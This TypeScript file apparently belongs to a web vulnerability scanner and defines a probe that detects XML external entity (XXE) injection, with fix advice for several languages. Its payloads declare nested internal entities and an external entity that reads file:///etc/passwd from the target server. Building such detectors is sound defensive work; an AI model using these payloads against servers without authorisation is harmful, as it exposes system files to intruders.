import type { FetchRequest } from '../../evidence/define-collector.ts';
import type { InjectionPoint } from '../../evidence/parse/application/injection-point.ts';
import { defineProbe, type ProbeContext } from '../define-probe.ts';
import { PASSWD } from '../injection/files/known-files.ts';
import { locationOf } from '../points.ts';
import { proofOf } from '../proof/proof.ts';
import { noteProven } from '../proof/proven-points.ts';
import { testPoints } from '../tested-points.ts';
import { declaring, XML_POINTS } from './entities/declaring.ts';
import { entityScenes } from './support/entity-scenes.ts';

export default defineProbe({
  id: 'active/queries/xml-entities',
  title: 'XML of visitors is parsed without entities (XXE)',
  why: 'A parser that resolves entities lets attackers read files of the server, send requests from it, or exhaust its memory.',
  needs: ['address', 'surface'],
  profile: 'standard',
  budget: 20,
  perPoint: 1,
  problems: {
    resolved: {
      severity: 'high',
      message: 'XML external entities (XXE): the parser reads files of the server for entities that a request declares',
      fix: 'Forbid document types: `disallow-doctype-decl` in Java, `resolve_entities=False` in lxml or `defusedxml` in Python, no `LIBXML_NOENT` in PHP, `noent: false` in libxmljs. Better: accept JSON.',
    },
  },
  references: ['CWE-611', 'OWASP A05:2021'],
  ask: (given, asking) => testPoints(given, asking, resolvedAt, XML_POINTS),
  scenes: entityScenes,
});

/** Internal entities alone are harmless: parsers limit their expansion. The text of the element is made of two entities, the second of which contains the first: `one` and `two` meet only when both are resolved. */
function nested(point: InjectionPoint, one: string, two: string): FetchRequest {
  return declaring(point, `<!ENTITY a "${one}"><!ENTITY b "${two}&a;">`);
}

async function resolvedAt(point: InjectionPoint, asking: ProbeContext) {
  const [one, two, three, four] = [asking.token(), asking.token(), asking.token(), asking.token()];
  const answer = await asking.fetch(nested(point, one, two));
  if (!answer?.text.includes(two + one)) return undefined;
  const again = await asking.fetch(nested(point, three, four));
  if (!again?.text.includes(four + three)) return undefined;
  return readAt(point, asking);
}

/** An external entity reads a file that every Unix host has, and a missing file next to it is not the same. */
async function readAt(point: InjectionPoint, asking: ProbeContext) {
  const external = (name: string) => declaring(point, `<!ENTITY b SYSTEM "file:///etc/${name}">`);
  const request = external(PASSWD.name);
  const answer = await asking.fetch(request);
  if (!answer || !PASSWD.isIn(answer.text)) return undefined;
  const control = await asking.fetch(external(asking.token()));
  if (!control || PASSWD.isIn(control.text)) return undefined;
  const screening = await asking.screen(point);
  if (screening) noteProven(screening, 'entities');
  const response = `HTTP/${answer.httpVersion} ${answer.status}\n\n${PASSWD.shown}`;
  return {
    problem: 'resolved' as const,
    location: locationOf(point),
    evidence: PASSWD.words,
    proof: { ...proofOf(request, answer), response },
  };
}
